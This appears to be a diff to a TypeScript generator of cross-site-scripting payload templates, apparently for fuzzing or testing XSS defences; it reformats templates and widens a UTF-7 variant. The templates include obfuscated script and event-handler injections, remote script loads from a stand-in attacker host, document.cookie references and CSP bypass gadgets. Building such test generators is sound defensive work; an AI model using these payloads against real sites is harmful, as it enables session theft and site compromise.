@@ -66,7 +66,6 @@ function quoted(part: Part): Write {
     return quote !== '' && written.includes(quote) ? written : quote + written + quote;
   });
 }
-const attribute = (name: Part, value: Part): Write => text`${name}${equals}${quoted(value)}`;
 const cased = (part: Part): Write =>
   altered(part, (written, rng) =>
     rng.chance(0.12) ? mixCase(written, rng) : rng.chance(0.12) ? written.toUpperCase() : written
@@ -474,7 +473,7 @@ export const elementTemplates = family('cross-site-scripting/element', {
     text`javascript:${script}//`,
     text`${lowerWord};${script}//`
   ),
-  utf7: text`+ADw-script+AD4-${dialogue}(${oneOf('1', '+ACI-xss+ACI-', 'document.cookie')})+ADw-/script+AD4-${maybe('-')}`,
+  utf7: text`${maybe(lowerWord)}${oneOf('', '">', '+ACI-+AD4-')}+ADw-${oneOf('script', 'SCRIPT', 'img src=x onerror')}${oneOf('+AD4-', '+AD0-')}${dialogue}(${oneOf(integer(1, 99), '+ACI-xss+ACI-', '+ACc-xss+ACc-', 'document.cookie')})+ADw-/script+AD4-${maybe('-')}`,
   'vml-htc': anywhere(
     oneOf(
       text`<v:${words('rect oval line')} xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#vml)" ${handled}/>`,
@@ -483,17 +482,50 @@ export const elementTemplates = family('cross-site-scripting/element', {
       text`<t:animate attributename="innerHTML" values="<img src=x onerror=${script}>"/>`
     )
   ),
-  locator: text`${oneOf("'';!--\"", ';!--"', "'\"`", '"><', "';", '<!--')}<${oneOf('xss', 'crosssitescripting', 'x', lowerWord)}${maybe('>')}${oneOf('=&{()}', '=', '>', "'\"", '=&{(alert(1))}', '`')}`,
-  'unknown-handler': anywhere(text`<${oneOf('x', '%78', 'xss', lowerWord)}${oneOf(' ', '%20', '/', '\n', '%0a', '\t', " 1='1'", ' 1=">"', ' a="b"')}${maybe(' ')}on${oneOf('xxx', lowerWord, 'x')}${equals}${oneOf('1', script, '""')}${ending}`),
-  'split-names': oneOf(text`<img src=1 alt=al lang=ert onerror=top[alt+lang](${integer(0, 9)})>`, text`${letters(LOWER)}=0||'ev'+'al',${letters(LOWER)}=0||location.hash,${letters(LOWER)}=0||'sub'+'str',1[${letters(LOWER)}](${letters(LOWER)}[${letters(LOWER)}](1))`, text`<svg id=al class=ert onload=top[id+className](1)>`, text`var ${letters(LOWER)}='al';var ${letters(LOWER)}='ert';window[${letters(LOWER)}+${letters(LOWER)}](1)`, text`${letters(LOWER)}=/ev/.source;${letters(LOWER)}+=/al/.source;this[${letters(LOWER)}](name)`),
-  'binding': anywhere(text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf('[link to code]', text`${attackerUrl}#xss`, text`${lowerWord}.htc`, text`mocha:[code]`)})${maybe(';')}`)}>`),
-  'data-binding': anywhere(oneOf(text`<span datasrc=${quoted(text`#${lowerWord}`)} datafld=${quoted(letters(LOWER))} dataformatas=${quoted('html')}></span>`, text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', text`${attackerUrl}`, text`http://${attackerHost}/${lowerWord}.htc`)}">`, text`<html xmlns:${lowerWord}><?import namespace="${lowerWord}" implementation="http://${attackerHost}/${lowerWord}.htc"><${lowerWord}:${lowerWord}>`, text`<xml id=${letters(LOWER)}><x><c><![cdata[<img src="javas]]><![cdata[cript:${script}">]]></c></x></xml><span datasrc=#${letters(LOWER)} datafld=c dataformatas=html></span>`, text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:schemas-microsoft-com:time">`)),
-  'telling-link': anywhere(text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'crosssitescripting', 'click me', 'hacked')}</a>`),
-  'remote-layer': anywhere(text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', 'crosssitescripting', lowerWord)}.${words('js html css htc swf')}`)}${ending}`),
-  'attribute-hiding-end': anywhere(text`<script ${letters(LOWER)}=${oneOf('">"', "'>'", '`>`', '">\'>"')} ${maybe("'' ")}src=${quoted(text`http://${attackerHost}/${lowerWord}.js`)}></script>`),
+  locator: text`${oneOf("'';!--\"", ';!--"', '\'"`', '"><', "';", '<!--')}<${oneOf('xss', 'crosssitescripting', 'x', lowerWord)}${maybe('>')}${oneOf('=&{()}', '=', '>', '\'"', '=&{(alert(1))}', '`')}`,
+  'unknown-handler': anywhere(
+    text`<${oneOf('x', '%78', 'xss', lowerWord)}${oneOf(' ', '%20', '/', '\n', '%0a', '\t', " 1='1'", ' 1=">"', ' a="b"')}${maybe(' ')}on${oneOf('xxx', lowerWord, 'x')}${equals}${oneOf('1', script, '""')}${ending}`
+  ),
+  'split-names': oneOf(
+    text`<img src=1 alt=al lang=ert onerror=top[alt+lang](${integer(0, 9)})>`,
+    text`${letters(LOWER)}=0||'ev'+'al',${letters(LOWER)}=0||location.hash,${letters(LOWER)}=0||'sub'+'str',1[${letters(LOWER)}](${letters(LOWER)}[${letters(LOWER)}](1))`,
+    text`<svg id=al class=ert onload=top[id+className](1)>`,
+    text`var ${letters(LOWER)}='al';var ${letters(LOWER)}='ert';window[${letters(LOWER)}+${letters(LOWER)}](1)`,
+    text`${letters(LOWER)}=/ev/.source;${letters(LOWER)}+=/al/.source;this[${letters(LOWER)}](name)`
+  ),
+  binding: anywhere(
+    text`<${oneOf('div', 'xss', tag)} style=${quoted(text`${words('behavior behaviour binding -moz-binding')}:${maybe(' ')}url(${oneOf('[link to code]', text`${attackerUrl}#xss`, text`${lowerWord}.htc`, text`mocha:[code]`)})${maybe(';')}`)}>`
+  ),
+  'data-binding': anywhere(
+    oneOf(
+      text`<span datasrc=${quoted(text`#${lowerWord}`)} datafld=${quoted(letters(LOWER))} dataformatas=${quoted('html')}></span>`,
+      text`<?import namespace="${lowerWord}" implementation="${oneOf('#default#time2', text`${attackerUrl}`, text`http://${attackerHost}/${lowerWord}.htc`)}">`,
+      text`<html xmlns:${lowerWord}><?import namespace="${lowerWord}" implementation="http://${attackerHost}/${lowerWord}.htc"><${lowerWord}:${lowerWord}>`,
+      text`<xml id=${letters(LOWER)}><x><c><![cdata[<img src="javas]]><![cdata[cript:${script}">]]></c></x></xml><span datasrc=#${letters(LOWER)} datafld=c dataformatas=html></span>`,
+      text`<?xml:namespace prefix="${letters(LOWER)}" ns="urn:schemas-microsoft-com:time">`
+    )
+  ),
+  'telling-link': anywhere(
+    text`<a href=${quoted(text`http://${oneOf(attackerHost, integer(100_000_000, 3_999_999_999), text`0x${letters('0123456789abcdef', 8)}`, 'www.google.com./')}/`)}>${oneOf('xss', 'XSS', 'crosssitescripting', 'click me', 'hacked')}</a>`
+  ),
+  'remote-layer': anywhere(
+    text`<${words('layer ilayer bgsound embed frame applet link')} ${words('src href code')}=${quoted(text`http://${attackerHost}/${oneOf('xss', 'script', 'crosssitescripting', lowerWord)}.${words('js html css htc swf')}`)}${ending}`
+  ),
+  'attribute-hiding-end': anywhere(
+    text`<script ${letters(LOWER)}=${oneOf('">"', "'>'", '`>`', '">\'>"')} ${maybe("'' ")}src=${quoted(text`http://${attackerHost}/${lowerWord}.js`)}></script>`
+  ),
   'markup-injection': text`${oneOf('">', "'>", '</title>', '</textarea>', '">\n')}${oneOf(text`<h1>${lowerWord}</h1>`, text`<${words('b i u br marquee s plaintext')}>${oneOf('x', lowerWord)}</${words('b i u marquee s')}>`, text`<marquee>${lowerWord} ${lowerWord}</marquee>`, text`<br><br><b><u>${lowerWord}</u></b>`, text`<img src="${lowerWord}.png" alt="${lowerWord}">`, text`<iframe src="http://${attackerHost}/"></iframe>`)}`,
   'stripped-brackets': text`${maybe(lowerWord)}${oneOf('script', 'ſcript', '¼script¾', ' script ')}${script}${oneOf('/script', '¼/script¾', ' /script')}`,
-  'half-script': anywhere(oneOf(text`<script>${letters(LOWER)}=/xss/${maybe(';')}`, text`<script>${letters(LOWER)}=eval;${letters(LOWER)}=alert;`, text`<? echo('<scr)'; echo('ipt>${script}</script>'); ?>`, text`<% ${script} %>`, text`mhtml:http://${attackerHost}/${lowerWord}.html!xss.html`, text`<iframe src=mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}></iframe>`)),
+  'half-script': anywhere(
+    oneOf(
+      text`<script>${letters(LOWER)}=/xss/${maybe(';')}`,
+      text`<script>${letters(LOWER)}=eval;${letters(LOWER)}=alert;`,
+      text`<? echo('<scr)'; echo('ipt>${script}</script>'); ?>`,
+      text`<% ${script} %>`,
+      text`mhtml:http://${attackerHost}/${lowerWord}.html!xss.html`,
+      text`<iframe src=mhtml:http://${attackerHost}/${lowerWord}.html!${lowerWord}></iframe>`
+    )
+  ),
   'csp-gadget': anywhere(
     oneOf(
       text`<script src="https://${words('accounts.google.com www.google.com cdnjs.cloudflare.com ajax.googleapis.com')}/${lowerWord}/jsonp?callback=${dialogue}"></script>`,
